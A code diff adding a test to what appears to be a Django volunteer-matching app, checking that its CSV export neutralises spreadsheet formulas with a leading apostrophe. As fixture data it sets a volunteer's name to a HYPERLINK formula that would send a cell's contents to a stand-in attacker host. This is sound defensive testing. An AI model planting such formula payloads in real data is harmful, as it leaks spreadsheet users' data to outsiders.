@@ -173,3 +173,21 @@ def test_wagtail_admin_exposes_no_candidate_data_elsewhere(client, world):
         response = client.get(url)
         assert response.status_code in (302, 403, 404), url
         assert "Lars" not in response.content.decode(errors="replace"), url
+
+
+def test_export_neutralises_formulas_in_names_and_phones(client, world, agency):
+    """A volunteer who registers as "=HYPERLINK(...)" must not run a formula in the
+    coordinator's spreadsheet: the cell starts with an apostrophe and stays text."""
+    sara = world["sara"]
+    sara.name = '=HYPERLINK("http://evil.example/?"&A1,"Klik")'
+    sara.phone = "+32 470 00 00 00"
+    sara.email = "@sara@example.org"
+    sara.save()
+    client.force_login(agency)
+    text = client.get(reverse("buddy_admin:export") + "?email=1").content.decode()
+    rows = csv.DictReader(io.StringIO(text))
+    row = next(r for r in rows if r["proposal"] == str(world["gent_p"].pk))
+    assert row["name"] == "'" + sara.name
+    assert row["phone"] == "'+32 470 00 00 00"
+    assert row["email"] == "'@sara@example.org"
+    assert row["initiative"] == "Buddy Gent"  # ordinary text is left as it is
